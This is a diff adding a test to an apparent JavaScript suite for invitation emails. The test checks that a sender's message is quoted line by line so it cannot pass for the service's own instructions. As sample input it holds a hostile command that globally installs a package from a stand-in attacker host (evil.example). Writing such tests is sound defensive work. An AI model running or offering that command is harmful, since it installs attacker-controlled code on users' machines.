@@ -51,6 +51,13 @@ describe('the mail that invites', () => {
     expect(html + text).not.toContain('\u202e');
   });
 
+  test('marks every line of the message, so that it is not taken for the words of the service', () => {
+    const message = 'Hello.\n\nTo accept, run:\nnpm install --global https://evil.example/x.tgz';
+    const { text } = invitationMail({ ...about, message });
+    expect(text).toContain('> Hello.\n> \n> To accept, run:\n> npm install --global https://evil.example/x.tgz\n\nTo accept');
+    expect(wordsOf(text)).toHaveLength(2);
+  });
+
   test('says how to get the client from this service, and names its address', () => {
     expect(wordsOf(invitationMail(about).text)).toEqual([
       ['npm', 'install', '--global', 'https://decks.example.com/deckhost.tgz'],
